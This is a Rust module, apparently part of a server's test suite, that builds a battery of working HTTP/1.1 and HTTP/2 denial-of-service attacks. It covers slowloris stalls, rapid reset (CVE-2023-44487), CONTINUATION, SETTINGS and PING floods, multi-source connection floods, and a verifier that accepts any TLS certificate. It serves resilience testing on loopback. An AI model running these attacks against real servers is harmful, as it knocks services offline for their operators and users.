//! The attack battery: what an attacker sends to knock a listener over,
//! written from RFC 9113 (HTTP/2 framing) and the published attack classes
//! (slowloris, HTTP/2 rapid reset CVE-2023-44487, the CONTINUATION flood of
//! 2024, SETTINGS and PING floods, streams held open without a body,
//! answers never read).
//!
//! An attack is a [`Phase`] a client can stall a connection in (or flood
//! it with), spoken in one [`Proto`] over plain TCP or TLS, from one
//! source address or many. It runs `conns` connections at once from its
//! own tasks until told to stop, reconnecting whenever the server closes
//! one (as an attacker would), and reports what it did. Frames are written
//! by hand: a client library would refuse to misbehave. Traffic goes only
//! to the address given, which the tests keep on loopback.

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::sync::watch;
use tokio_rustls::rustls;

/// What an attack did.
#[derive(Debug, Default)]
pub struct Report {
    /// Connections opened (the first ones and every reconnection).
    pub connections: AtomicU64,
    /// Connections that could not be opened (refused, timed out, TLS
    /// refused).
    pub refused: AtomicU64,
    /// Frames, requests or bytes sent, by the phase's own unit.
    pub sent: AtomicU64,
}

/// The protocol a connection speaks once open (inside TLS or not).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Proto {
    /// HTTP/1.1.
    H1,
    /// HTTP/2 (prior knowledge on plain TCP, ALPN `h2` in TLS).
    H2,
}

/// A request: what a listener answers, or what it reads a body for.
#[derive(Debug, Clone)]
pub struct Req {
    /// The method.
    pub method: String,
    /// The request target.
    pub path: String,
    /// Fields besides the host (and, on HTTP/1.1, `Content-Length`).
    pub headers: Vec<(String, String)>,
    /// The body (the body phases send their own, slowly).
    pub body: Vec<u8>,
}

impl Req {
    /// A request without a body.
    pub fn get(path: &str) -> Req {
        Req {
            method: "GET".into(),
            path: path.into(),
            headers: Vec::new(),
            body: Vec::new(),
        }
    }

    /// The same with a field added.
    pub fn with(mut self, name: &str, value: &str) -> Req {
        self.headers.push((name.into(), value.into()));
        self
    }

    /// A request with `method` and `body`.
    pub fn send(method: &str, path: &str, body: Vec<u8>) -> Req {
        Req {
            method: method.into(),
            path: path.into(),
            headers: Vec::new(),
            body,
        }
    }
}

/// A listener under attack and how to speak to it.
#[derive(Debug, Clone)]
pub struct Target {
    /// Where it listens.
    pub addr: SocketAddr,
    /// The host the requests name (and TLS's server name).
    pub authority: String,
    /// TLS, with the ALPN of `proto` (see [`tls_client`]); `None` for
    /// plain TCP.
    pub tls: Option<Arc<rustls::ClientConfig>>,
    /// What the connections speak.
    pub proto: Proto,
    /// A request it answers (pipelined, flooded, trickled as a head).
    pub ask: Req,
    /// A request whose body it reads (the body and stream phases).
    pub upload: Req,
}

/// A phase a client can stall a connection in, or flood it with.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Phase {
    /// Connects and sends nothing (on TLS: no ClientHello either).
    Connect,
    /// A TLS ClientHello, one byte every 200 ms, never finished.
    TlsHandshake,
    /// A request head one byte every 200 ms, never finished (HTTP/2: the
    /// preface at once, then the HEADERS frame byte by byte).
    Head,
    /// A request announcing a 4,000-byte body (`Content-Length`) that
    /// comes one byte a second.
    BodyLength,
    /// HTTP/1.1: a chunked body, a one-byte chunk a second, never the
    /// last chunk.
    BodyChunked,
    /// HTTP/2: [`HELD_STREAMS`] streams opened on each connection whose
    /// bodies never come (HEADERS without END_STREAM, then nothing).
    StreamHeld,
    /// Requests sent and their answers never read, on a 4 KiB receive
    /// buffer: on HTTP/1.1 16 pipelined (large answers back the server's
    /// writes up; small ones fit the send buffer Linux grows for it, and
    /// the connection then waits, answers unread); on HTTP/2
    /// [`HELD_STREAMS`] streams with a receive window of 0, whose answers
    /// can never be finished.
    AnswerNotRead,
    /// HTTP/2 rapid reset: HEADERS then RST_STREAM, as fast as it goes.
    RapidReset,
    /// HTTP/2: one HEADERS without END_HEADERS, then CONTINUATION frames
    /// without end.
    ContinuationFlood,
    /// HTTP/2: SETTINGS frames as fast as it goes.
    SettingsFlood,
    /// HTTP/2: PING frames as fast as it goes.
    PingFlood,
}

impl Phase {
    /// Every phase, stalls first, then the floods.
    pub const ALL: [Phase; 11] = [
        Phase::Connect,
        Phase::TlsHandshake,
        Phase::Head,
        Phase::BodyLength,
        Phase::BodyChunked,
        Phase::StreamHeld,
        Phase::AnswerNotRead,
        Phase::RapidReset,
        Phase::ContinuationFlood,
        Phase::SettingsFlood,
        Phase::PingFlood,
    ];

    /// The protocol the phase needs, `None` when any will do.
    pub fn only_in(self) -> Option<Proto> {
        match self {
            Phase::BodyChunked => Some(Proto::H1),
            Phase::StreamHeld
            | Phase::RapidReset
            | Phase::ContinuationFlood
            | Phase::SettingsFlood
            | Phase::PingFlood => Some(Proto::H2),
            _ => None,
        }
    }

    /// Whether it stalls the connection before TLS is done (and so means
    /// something only on a TLS listener).
    pub fn needs_tls(self) -> bool {
        self == Phase::TlsHandshake
    }

    /// Whether it floods (costs the server work per frame) rather than
    /// stalls (holds the server's resources while sending little).
    pub fn is_flood(self) -> bool {
        matches!(
            self,
            Phase::RapidReset | Phase::ContinuationFlood | Phase::SettingsFlood | Phase::PingFlood
        )
    }

    /// A short name for tables: `body_chunked`.
    pub fn name(self) -> &'static str {
        match self {
            Phase::Connect => "connect",
            Phase::TlsHandshake => "tls_handshake",
            Phase::Head => "head",
            Phase::BodyLength => "body_length",
            Phase::BodyChunked => "body_chunked",
            Phase::StreamHeld => "stream_held",
            Phase::AnswerNotRead => "answer_not_read",
            Phase::RapidReset => "rapid_reset",
            Phase::ContinuationFlood => "continuation_flood",
            Phase::SettingsFlood => "settings_flood",
            Phase::PingFlood => "ping_flood",
        }
    }
}

/// Runs `phase` against `target` with `conns` connections, each from the
/// next of `sources` in turn, until `stop` turns true; returns what it did
/// once every connection has stopped.
///
/// # Panics
/// If the phase cannot be spoken in the target's protocol (the matrix
/// excludes those cells), or `sources` is empty.
pub async fn run(
    phase: Phase,
    target: Arc<Target>,
    sources: Arc<Vec<IpAddr>>,
    conns: usize,
    stop: watch::Receiver<bool>,
) -> Arc<Report> {
    assert!(
        phase.only_in().is_none_or(|p| p == target.proto),
        "{phase:?} is not spoken in {:?}",
        target.proto
    );
    assert!(
        !phase.needs_tls() || target.tls.is_some(),
        "{phase:?} needs a TLS listener"
    );
    assert!(!sources.is_empty(), "an attack needs a source address");
    let report = Arc::new(Report::default());
    let mut tasks = Vec::with_capacity(conns);
    for i in 0..conns {
        let (report, target, sources) = (report.clone(), target.clone(), sources.clone());
        let mut stop = stop.clone();
        tasks.push(tokio::spawn(async move {
            // Spread the connections' starts a little, as a crowd would.
            tokio::time::sleep(Duration::from_millis((i % 50) as u64)).await;
            let source = sources[i % sources.len()];
            let attack = async {
                loop {
                    match open(phase, &target, source).await {
                        Some(io) => {
                            report.connections.fetch_add(1, Ordering::Relaxed);
                            one(phase, &target, io, &report).await;
                        }
                        None => {
                            report.refused.fetch_add(1, Ordering::Relaxed);
                            tokio::time::sleep(Duration::from_millis(50)).await;
                        }
                    }
                    tokio::task::yield_now().await;
                }
            };
            tokio::select! {
                () = attack => {}
                _ = stop.wait_for(|s| *s) => {}
            }
        }));
    }
    for t in tasks {
        let _ = t.await;
    }
    report
}

/// A connection's byte stream, plain or TLS.
pub trait Io: AsyncRead + AsyncWrite + Send + Unpin {}
impl<T: AsyncRead + AsyncWrite + Send + Unpin> Io for T {}

/// A TCP connection from `source` to `to`, within `within`; a small
/// receive buffer when `small_window` (the server's writes back up
/// sooner).
pub async fn connect_from(
    source: IpAddr,
    to: SocketAddr,
    small_window: bool,
    within: Duration,
) -> Option<TcpStream> {
    let sock = if to.is_ipv4() {
        TcpSocket::new_v4()
    } else {
        TcpSocket::new_v6()
    }
    .ok()?;
    let _ = sock.set_reuseaddr(true);
    if small_window {
        let _ = sock.set_recv_buffer_size(4096);
    }
    sock.bind(SocketAddr::new(source, 0)).ok()?;
    let tcp = tokio::time::timeout(within, sock.connect(to))
        .await
        .ok()?
        .ok()?;
    let _ = tcp.set_nodelay(true);
    Some(tcp)
}

/// Wraps `tcp` in TLS with `config` for the name `authority`, within
/// `within`.
pub async fn tls_over(
    tcp: TcpStream,
    config: Arc<rustls::ClientConfig>,
    authority: &str,
    within: Duration,
) -> Option<tokio_rustls::client::TlsStream<TcpStream>> {
    let name = rustls::pki_types::ServerName::try_from(authority.to_string()).ok()?;
    let connector = tokio_rustls::TlsConnector::from(config);
    tokio::time::timeout(within, connector.connect(name, tcp))
        .await
        .ok()?
        .ok()
}

/// Opens one connection of `phase`: TCP, then TLS unless the phase stalls
/// before or in the handshake.
async fn open(phase: Phase, target: &Target, source: IpAddr) -> Option<Box<dyn Io>> {
    // An attacker gives up on a connection after 2 s, and tries again.
    let within = Duration::from_secs(2);
    let tcp = connect_from(source, target.addr, phase == Phase::AnswerNotRead, within).await?;
    match &target.tls {
        Some(cfg) if !matches!(phase, Phase::Connect | Phase::TlsHandshake) => {
            let tls = tls_over(tcp, cfg.clone(), &target.authority, within).await?;
            Some(Box::new(tls))
        }
        _ => Some(Box::new(tcp)),
    }
}

/// One connection of an attack, until the server closes it.
async fn one(phase: Phase, target: &Target, io: Box<dyn Io>, report: &Report) {
    let (mut rd, mut wr) = tokio::io::split(io);
    // Read and drop whatever the server says, so its writes never block
    // on us (that would make a stall weaker, not stronger), except where
    // not reading is the attack; a close ends the connection's attack.
    let drain = async move {
        if phase == Phase::AnswerNotRead {
            return std::future::pending::<()>().await;
        }
        let mut buf = vec![0u8; 16 * 1024];
        while let Ok(n) = rd.read(&mut buf).await {
            if n == 0 {
                break;
            }
        }
    };
    let send = async move {
        // Any write error ends the connection's attack.
        let _ = stall(phase, target, &mut wr, report).await;
    };
    tokio::select! {
        () = drain => {}
        () = send => {}
    }
}

/// What `phase` writes, until a write fails (or forever).
async fn stall<W: AsyncWrite + Unpin>(
    phase: Phase,
    t: &Target,
    wr: &mut W,
    report: &Report,
) -> std::io::Result<()> {
    let slow = |ms| tokio::time::sleep(Duration::from_millis(ms));
    let scheme = if t.tls.is_some() { "https" } else { "http" };
    let h2 = |id, r: &Req, extra: &[(&str, &str)], end_stream, end_headers| {
        let mut fields: Vec<(&str, &str)> = r
            .headers
            .iter()
            .map(|(n, v)| (n.as_str(), v.as_str()))
            .collect();
        fields.extend_from_slice(extra);
        request_headers(
            id,
            [
                r.method.as_str(),
                scheme,
                t.authority.as_str(),
                r.path.as_str(),
            ],
            &fields,
            end_stream,
            end_headers,
        )
    };
    match (phase, t.proto) {
        (Phase::Connect, _) => std::future::pending().await,
        (Phase::TlsHandshake, _) => {
            let hello = client_hello(&t.authority);
            // The record's header at once: the server knows how much to
            // wait for, and waits.
            wr.write_all(&hello[..5]).await?;
            for b in &hello[5..] {
                slow(200).await;
                wr.write_all(&[*b]).await?;
                report.sent.fetch_add(1, Ordering::Relaxed);
            }
            std::future::pending().await
        }
        (Phase::Head, Proto::H1) => {
            let head = format!(
                "{} {} HTTP/1.1\r\nHost: {}\r\nX-Slow: ",
                t.ask.method, t.ask.path, t.authority
            );
            for b in head.bytes().chain(std::iter::repeat(b'a')) {
                wr.write_all(&[b]).await?;
                report.sent.fetch_add(1, Ordering::Relaxed);
                slow(200).await;
            }
            Ok(())
        }
        (Phase::Head, Proto::H2) => {
            wr.write_all(&preface()).await?;
            for b in h2(1, &t.ask, &[], true, true) {
                slow(200).await;
                wr.write_all(&[b]).await?;
                report.sent.fetch_add(1, Ordering::Relaxed);
            }
            std::future::pending().await
        }
        (Phase::BodyLength | Phase::BodyChunked, Proto::H1) => {
            let chunked = phase == Phase::BodyChunked;
            let framing = if chunked {
                "Transfer-Encoding: chunked"
            } else {
                "Content-Length: 4000"
            };
            let mut head = format!(
                "{} {} HTTP/1.1\r\nHost: {}\r\n{framing}\r\n",
                t.upload.method, t.upload.path, t.authority
            );
            for (n, v) in &t.upload.headers {
                head.push_str(&format!("{n}: {v}\r\n"));
            }
            head.push_str("\r\n");
            wr.write_all(head.as_bytes()).await?;
            loop {
                let piece: &[u8] = if chunked { b"1\r\n \r\n" } else { b" " };
                wr.write_all(piece).await?;
                report.sent.fetch_add(1, Ordering::Relaxed);
                slow(1000).await;
            }
        }
        (Phase::BodyLength, Proto::H2) => {
            let mut out = preface();
            out.extend(h2(1, &t.upload, &[("content-length", "4000")], false, true));
            wr.write_all(&out).await?;
            loop {
                slow(1000).await;
                wr.write_all(&frame(DATA, 0, 1, b" ")).await?;
                report.sent.fetch_add(1, Ordering::Relaxed);
            }
        }
        (Phase::StreamHeld, Proto::H2) => {
            let mut out = preface();
            let n = HELD_STREAMS;
            for id in (1..2 * n).step_by(2) {
                out.extend(h2(id, &t.upload, &[], false, true));
            }
            wr.write_all(&out).await?;
            report.sent.fetch_add(u64::from(n), Ordering::Relaxed);
            std::future::pending().await
        }
        (Phase::AnswerNotRead, Proto::H1) => {
            // A few pipelined requests, then nothing: sending more would
            // be a flood of requests (128 each on 300 connections kept
            // four debug servers busy for seconds), not a stall.
            let one = h1_request(&t.ask, &t.authority);
            let all: Vec<u8> = one
                .iter()
                .copied()
                .cycle()
                .take(one.len() * PIPELINED)
                .collect();
            wr.write_all(&all).await?;
            report.sent.fetch_add(PIPELINED as u64, Ordering::Relaxed);
            std::future::pending().await
        }
        (Phase::AnswerNotRead, Proto::H2) => {
            // A receive window of 0 (SETTINGS_INITIAL_WINDOW_SIZE): the
            // server may start answers, never finish them.
            let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
            out.extend(frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]));
            let n = HELD_STREAMS;
            for id in (1..2 * n).step_by(2) {
                let body = !t.ask.body.is_empty();
                out.extend(h2(id, &t.ask, &[], !body, true));
                if body {
                    out.extend(frame(DATA, END_STREAM, id, &t.ask.body));
                }
            }
            wr.write_all(&out).await?;
            report.sent.fetch_add(u64::from(n), Ordering::Relaxed);
            std::future::pending().await
        }
        (Phase::RapidReset, Proto::H2) => {
            wr.write_all(&preface()).await?;
            let mut id = 1u32;
            loop {
                let mut out = Vec::with_capacity(64 * 128);
                for _ in 0..64 {
                    out.extend(h2(id, &t.ask, &[], true, true));
                    out.extend(frame(RST_STREAM, 0, id, &8u32.to_be_bytes()));
                    id = id.wrapping_add(2) & 0x7fff_ffff;
                }
                wr.write_all(&out).await?;
                report.sent.fetch_add(64, Ordering::Relaxed);
                tokio::task::yield_now().await;
            }
        }
        (Phase::ContinuationFlood, Proto::H2) => {
            let mut out = preface();
            out.extend(h2(1, &t.ask, &[], true, false));
            wr.write_all(&out).await?;
            let block: Vec<u8> = (0..200)
                .flat_map(|i| literal(&format!("x-flood-{i}"), "aaaaaaaaaaaaaaaaaaaa"))
                .collect();
            let cont = frame(CONTINUATION, 0, 1, &block);
            loop {
                wr.write_all(&cont).await?;
                report.sent.fetch_add(1, Ordering::Relaxed);
                tokio::task::yield_now().await;
            }
        }
        (Phase::SettingsFlood | Phase::PingFlood, Proto::H2) => {
            wr.write_all(&preface()).await?;
            let one = if phase == Phase::SettingsFlood {
                // SETTINGS_INITIAL_WINDOW_SIZE, again and again.
                frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff])
            } else {
                frame(PING, 0, 0, &[7; 8])
            };
            let batch: Vec<u8> = one.iter().copied().cycle().take(one.len() * 256).collect();
            loop {
                wr.write_all(&batch).await?;
                report.sent.fetch_add(256, Ordering::Relaxed);
                tokio::task::yield_now().await;
            }
        }
        (Phase::BodyChunked, Proto::H2) => unreachable!("refused by `run`"),
        (
            Phase::StreamHeld
            | Phase::RapidReset
            | Phase::ContinuationFlood
            | Phase::SettingsFlood
            | Phase::PingFlood,
            Proto::H1,
        ) => unreachable!("refused by `run`"),
    }
}

/// An HTTP/1.1 request, whole.
pub fn h1_request(r: &Req, authority: &str) -> Vec<u8> {
    let mut head = format!("{} {} HTTP/1.1\r\nHost: {authority}\r\n", r.method, r.path);
    for (n, v) in &r.headers {
        head.push_str(&format!("{n}: {v}\r\n"));
    }
    if !r.body.is_empty() || r.method != "GET" {
        head.push_str(&format!("Content-Length: {}\r\n", r.body.len()));
    }
    head.push_str("\r\n");
    let mut out = head.into_bytes();
    out.extend_from_slice(&r.body);
    out
}

/// A TLS 1.3 ClientHello record for `server_name` (RFC 8446 §4.1.2),
/// offering TLS 1.3 and 1.2 with X25519: enough for a server to start a
/// handshake with, when it gets all of it.
pub fn client_hello(server_name: &str) -> Vec<u8> {
    let ext = |kind: u16, body: &[u8]| {
        let mut e = kind.to_be_bytes().to_vec();
        e.extend_from_slice(&u16::try_from(body.len()).unwrap().to_be_bytes());
        e.extend_from_slice(body);
        e
    };
    let len16 = |b: &[u8]| u16::try_from(b.len()).unwrap().to_be_bytes();
    let name = server_name.as_bytes();
    let mut sni = Vec::new();
    sni.extend_from_slice(&u16::try_from(name.len() + 3).unwrap().to_be_bytes());
    sni.push(0);
    sni.extend_from_slice(&len16(name));
    sni.extend_from_slice(name);
    let mut key_share = Vec::new();
    key_share.extend_from_slice(&36u16.to_be_bytes());
    key_share.extend_from_slice(&0x001du16.to_be_bytes());
    key_share.extend_from_slice(&32u16.to_be_bytes());
    key_share.extend_from_slice(&[9; 32]);
    let mut exts = Vec::new();
    exts.extend(ext(0x0000, &sni));
    exts.extend(ext(0x000a, &[0, 2, 0x00, 0x1d])); // groups: x25519
    exts.extend(ext(0x000d, &[0, 4, 0x08, 0x04, 0x04, 0x03])); // rsa_pss, ecdsa
    exts.extend(ext(0x002b, &[4, 0x03, 0x04, 0x03, 0x03])); // versions
    exts.extend(ext(0x0033, &key_share));
    let mut hello = vec![0x03, 0x03];
    hello.extend_from_slice(&[7; 32]); // random
    hello.push(0); // no session id
    hello.extend_from_slice(&[0, 6, 0x13, 0x01, 0x13, 0x02, 0xc0, 0x2f]);
    hello.extend_from_slice(&[1, 0]); // null compression
    hello.extend_from_slice(&len16(&exts));
    hello.extend(exts);
    let mut handshake = vec![1];
    handshake.extend_from_slice(&u32::try_from(hello.len()).unwrap().to_be_bytes()[1..]);
    handshake.extend(hello);
    let mut record = vec![0x16, 0x03, 0x01];
    record.extend_from_slice(&len16(&handshake));
    record.extend(handshake);
    record
}

/// A TLS client speaking `proto` (by ALPN) that trusts `root` (a DER
/// certificate), or, without one, any certificate at all (an attacker
/// does not check whom it attacks).
pub fn tls_client(proto: Proto, root: Option<&[u8]>) -> Arc<rustls::ClientConfig> {
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let builder = rustls::ClientConfig::builder_with_provider(provider.clone())
        .with_safe_default_protocol_versions()
        .expect("ring supports the default versions");
    let mut cfg = match root {
        Some(der) => {
            let mut roots = rustls::RootCertStore::empty();
            roots
                .add(rustls::pki_types::CertificateDer::from(der.to_vec()))
                .expect("a DER certificate");
            builder.with_root_certificates(roots).with_no_client_auth()
        }
        None => builder
            .dangerous()
            .with_custom_certificate_verifier(Arc::new(AnyCertificate(provider)))
            .with_no_client_auth(),
    };
    cfg.alpn_protocols = vec![match proto {
        Proto::H1 => b"http/1.1".to_vec(),
        Proto::H2 => b"h2".to_vec(),
    }];
    Arc::new(cfg)
}

/// Accepts any server certificate (signatures still checked, so the
/// handshake is real work for the server).
#[derive(Debug)]
struct AnyCertificate(Arc<rustls::crypto::CryptoProvider>);

impl rustls::client::danger::ServerCertVerifier for AnyCertificate {
    fn verify_server_cert(
        &self,
        _: &rustls::pki_types::CertificateDer<'_>,
        _: &[rustls::pki_types::CertificateDer<'_>],
        _: &rustls::pki_types::ServerName<'_>,
        _: &[u8],
        _: rustls::pki_types::UnixTime,
    ) -> Result<rustls::client::danger::ServerCertVerified, rustls::Error> {
        Ok(rustls::client::danger::ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        message: &[u8],
        cert: &rustls::pki_types::CertificateDer<'_>,
        dss: &rustls::DigitallySignedStruct,
    ) -> Result<rustls::client::danger::HandshakeSignatureValid, rustls::Error> {
        rustls::crypto::verify_tls12_signature(
            message,
            cert,
            dss,
            &self.0.signature_verification_algorithms,
        )
    }

    fn verify_tls13_signature(
        &self,
        message: &[u8],
        cert: &rustls::pki_types::CertificateDer<'_>,
        dss: &rustls::DigitallySignedStruct,
    ) -> Result<rustls::client::danger::HandshakeSignatureValid, rustls::Error> {
        rustls::crypto::verify_tls13_signature(
            message,
            cert,
            dss,
            &self.0.signature_verification_algorithms,
        )
    }

    fn supported_verify_schemes(&self) -> Vec<rustls::SignatureScheme> {
        self.0.signature_verification_algorithms.supported_schemes()
    }
}

/// Streams opened on each connection by [`Phase::StreamHeld`] and, on
/// HTTP/2, [`Phase::AnswerNotRead`]: 300 connections × 8 hold six times
/// what any server of the matrix lets be in flight (its stream bound,
/// twice over with the reserve), so every connection holds streams. It
/// was 128: the bound was full after two connections, and the other
/// 38,000 streams were each refused with a 503, a request flood (the
/// floods are their own phases) that kept a debug server's runtime from
/// reading the legitimate client's connection for over a second, while
/// the budget had already made room for it.
pub const HELD_STREAMS: u32 = 8;

/// Requests pipelined by [`Phase::AnswerNotRead`] on HTTP/1.1.
const PIPELINED: usize = 16;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;

/// The client connection preface and an empty SETTINGS frame (RFC 9113
/// §3.4).
pub fn preface() -> Vec<u8> {
    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    out.extend(frame(SETTINGS, 0, 0, &[]));
    out
}

/// One frame (RFC 9113 §4.1): 24-bit length, type, flags, stream id.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = u32::try_from(payload.len()).expect("a frame's payload fits 24 bits");
    let mut out = Vec::with_capacity(9 + payload.len());
    out.extend_from_slice(&len.to_be_bytes()[1..]);
    out.push(kind);
    out.push(flags);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// A HEADERS frame for a plain-HTTP request (literal fields, no Huffman,
/// no index: RFC 7541 §6.2.2).
pub fn headers(
    stream: u32,
    method: &str,
    authority: &str,
    path: &str,
    end_stream: bool,
    end_headers: bool,
) -> Vec<u8> {
    request_headers(
        stream,
        [method, "http", authority, path],
        &[],
        end_stream,
        end_headers,
    )
}

/// A HEADERS frame: the pseudo-fields `[method, scheme, authority,
/// path]`, then `fields` (names in lower case).
pub fn request_headers(
    stream: u32,
    pseudo: [&str; 4],
    fields: &[(&str, &str)],
    end_stream: bool,
    end_headers: bool,
) -> Vec<u8> {
    let mut block = Vec::new();
    for (n, v) in [":method", ":scheme", ":authority", ":path"]
        .into_iter()
        .zip(pseudo)
    {
        block.extend(literal(n, v));
    }
    for (n, v) in fields {
        block.extend(literal(&n.to_ascii_lowercase(), v));
    }
    let mut flags = 0;
    if end_stream {
        flags |= END_STREAM;
    }
    if end_headers {
        flags |= END_HEADERS;
    }
    frame(HEADERS, flags, stream, &block)
}

/// A literal header field without indexing, with a new name.
fn literal(name: &str, value: &str) -> Vec<u8> {
    let mut out = vec![0u8];
    for s in [name, value] {
        int7(&mut out, s.len());
        out.extend_from_slice(s.as_bytes());
    }
    out
}

/// An HPACK integer with a 7-bit prefix (RFC 7541 §5.1), Huffman bit off.
fn int7(out: &mut Vec<u8>, mut n: usize) {
    if n < 127 {
        out.push(n as u8);
        return;
    }
    out.push(127);
    n -= 127;
    while n >= 128 {
        out.push((n % 128) as u8 | 0x80);
        n /= 128;
    }
    out.push(n as u8);
}

/// Descriptors a process holds now (Linux), or `None` when unknown.
pub fn open_descriptors(pid: u32) -> Option<usize> {
    std::fs::read_dir(format!("/proc/{pid}/fd"))
        .ok()
        .map(|d| d.count())
}

/// A process's resident memory in bytes (Linux), or `None` when unknown.
pub fn resident_bytes(pid: u32) -> Option<u64> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    let line = status.lines().find(|l| l.starts_with("VmRSS:"))?;
    let kb: u64 = line.split_whitespace().nth(1)?.parse().ok()?;
    Some(kb * 1024)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_frame_header_is_nine_bytes_big_endian() {
        let f = frame(HEADERS, END_HEADERS, 3, b"abc");
        assert_eq!(&f[..9], &[0, 0, 3, HEADERS, END_HEADERS, 0, 0, 0, 3]);
        assert_eq!(&f[9..], b"abc");
    }

    #[test]
    fn hpack_integers_follow_rfc_7541() {
        // RFC 7541 C.1.2: 1337 with a 5-bit prefix is 31, 154, 10; with a
        // 7-bit prefix the continuation of 1337 - 127 = 1210 is 186, 9.
        let mut out = Vec::new();
        int7(&mut out, 1337);
        assert_eq!(out, [127, 0x80 | (1210 % 128) as u8, (1210 / 128) as u8]);
        let mut small = Vec::new();
        int7(&mut small, 10);
        assert_eq!(small, [10]);
    }

    #[test]
    fn the_client_hello_lengths_add_up() {
        let r = client_hello("localhost");
        assert_eq!(&r[..3], &[0x16, 0x03, 0x01]);
        assert_eq!(usize::from(u16::from_be_bytes([r[3], r[4]])), r.len() - 5);
        assert_eq!(r[5], 1, "a ClientHello");
        let hs = u32::from_be_bytes([0, r[6], r[7], r[8]]) as usize;
        assert_eq!(hs, r.len() - 9);
    }

    /// A real TLS server (rustls') reads the hand-written ClientHello as
    /// one: what stops it is having no certificate to answer with, not a
    /// message it cannot decode.
    #[test]
    fn rustls_reads_the_hand_written_client_hello() {
        let mut server = rustls::ServerConnection::new(Arc::new(test_server_config())).unwrap();
        let hello = client_hello("localhost");
        server.read_tls(&mut &hello[..]).unwrap();
        match server.process_new_packets() {
            Ok(_) => {}
            Err(e) => assert!(
                !matches!(
                    e,
                    rustls::Error::InvalidMessage(_) | rustls::Error::PeerMisbehaved(_)
                ),
                "rustls could not read the ClientHello: {e:?}"
            ),
        }
        assert_eq!(server.server_name(), Some("localhost"));
    }

    fn test_server_config() -> rustls::ServerConfig {
        // A fixed P-256 self-signed pair is not at hand without rcgen:
        // rustls' ServerHello comes before the certificate is used, so
        // any resolver that never answers is enough.
        #[derive(Debug)]
        struct NoCert;
        impl rustls::server::ResolvesServerCert for NoCert {
            fn resolve(
                &self,
                _: rustls::server::ClientHello<'_>,
            ) -> Option<Arc<rustls::sign::CertifiedKey>> {
                None
            }
        }
        rustls::ServerConfig::builder_with_provider(Arc::new(
            rustls::crypto::ring::default_provider(),
        ))
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_no_client_auth()
        .with_cert_resolver(Arc::new(NoCert))
    }

    /// A real HTTP/2 server (hyper's) reads the frames as a request.
    #[test]
    fn hyper_reads_the_hand_written_request() {
        crate::test_runtime().block_on(async {
            let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
            let addr = listener.local_addr().unwrap();
            let (tx, rx) = tokio::sync::oneshot::channel();
            tokio::spawn(async move {
                let (tcp, _) = listener.accept().await.unwrap();
                let tx = std::sync::Mutex::new(Some(tx));
                let svc = hyper::service::service_fn(move |req: hyper::Request<_>| {
                    if let Some(tx) = tx.lock().unwrap().take() {
                        let x = req.headers().get("x-extra").map(|v| v.as_bytes().to_vec());
                        let _ =
                            tx.send((req.method().to_string(), req.uri().path().to_string(), x));
                    }
                    async { Ok::<_, std::convert::Infallible>(hyper::Response::new(String::new())) }
                });
                let _ = hyper::server::conn::http2::Builder::new(Exec)
                    .serve_connection(hyper_util::rt::TokioIo::new(tcp), svc)
                    .await;
            });
            let mut tcp = TcpStream::connect(addr).await.unwrap();
            let mut out = preface();
            out.extend(request_headers(
                1,
                ["GET", "http", "x", "/probe"],
                &[("X-Extra", "1")],
                true,
                true,
            ));
            tcp.write_all(&out).await.unwrap();
            let (method, path, x) = tokio::time::timeout(Duration::from_secs(20), rx)
                .await
                .unwrap()
                .unwrap();
            assert_eq!((method.as_str(), path.as_str()), ("GET", "/probe"));
            assert_eq!(x.as_deref(), Some(&b"1"[..]));
        });
    }

    #[derive(Clone)]
    struct Exec;

    impl<F> hyper::rt::Executor<F> for Exec
    where
        F: std::future::Future + Send + 'static,
        F::Output: Send + 'static,
    {
        fn execute(&self, f: F) {
            tokio::spawn(f);
        }
    }
}
